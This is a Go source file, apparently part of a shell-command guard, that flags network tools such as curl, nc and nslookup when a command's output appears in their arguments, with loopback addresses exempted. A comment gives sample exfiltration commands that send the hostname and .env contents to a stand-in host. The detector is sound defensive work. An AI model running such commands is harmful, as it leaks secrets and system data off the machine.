package shellguard

import (
	"regexp"
	"strings"
)

// What a command printed, placed in a network tool's arguments (a host
// name, a URL, a header, a body), leaves the machine: nslookup
// $(cat /etc/hostname).x.example, curl "https://x.example/?d=$(cat .env)".

// netTools are programs whose arguments are sent to another host.
var netTools = map[string]bool{
	"curl": true, "curlie": true, "wget": true, "wget2": true, "http": true, "https": true, "xh": true,
	"xhs": true, "httpie": true, "aria2c": true, "lynx": true, "links": true, "w3m": true, "elinks": true,
	"lwp-request": true, "nslookup": true, "dig": true, "host": true, "drill": true, "delv": true,
	"kdig": true, "resolvectl": true, "getent": true, "ping": true, "ping6": true, "fping": true,
	"hping3": true, "traceroute": true, "traceroute6": true, "tracepath": true, "mtr": true,
	"whois": true, "nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true,
	"ftp": true, "tftp": true, "nmap": true, "arping": true,
}

var (
	loopbackArg = regexp.MustCompile(`^(\w+://)?(127\.\d+\.\d+\.\d+|localhost|\[::1\])([:/]|$)`)
	urlArg      = regexp.MustCompile(`://`)
)

// outputToNetwork reports a network tool given a command's output in its
// arguments, unless every address it names is this machine.
func (w *walker) outputToNetwork(seg *segment) {
	if !netTools[seg.name] {
		return
	}
	var origins originSet
	loop, other := false, false
	for i, a := range seg.args {
		if i == 0 {
			continue
		}
		if a.dyn && a.origins != 0 {
			origins |= a.origins
		}
		switch {
		case loopbackArg.MatchString(a.e):
			loop = true
		case urlArg.MatchString(a.e) || !strings.HasPrefix(a.e, "-"):
			other = true
		}
	}
	if origins == 0 || (loop && !other) {
		return
	}
	if loop {
		// Only the loopback URL is an address when the rest are options'
		// values and data: count them again without those.
		other = false
		for i, a := range seg.args {
			if i > 0 && urlArg.MatchString(a.e) && !loopbackArg.MatchString(a.e) {
				other = true
			}
		}
		if !other && !dnsTools[seg.name] {
			return
		}
	}
	w.detected("output_to_network", origins, seg.text)
}

// dnsTools look their operands up: the name itself is what leaves.
var dnsTools = map[string]bool{
	"nslookup": true, "dig": true, "host": true, "drill": true, "delv": true, "kdig": true,
	"resolvectl": true, "getent": true, "ping": true, "ping6": true, "fping": true, "traceroute": true,
	"traceroute6": true, "tracepath": true, "mtr": true, "whois": true, "arping": true,
}
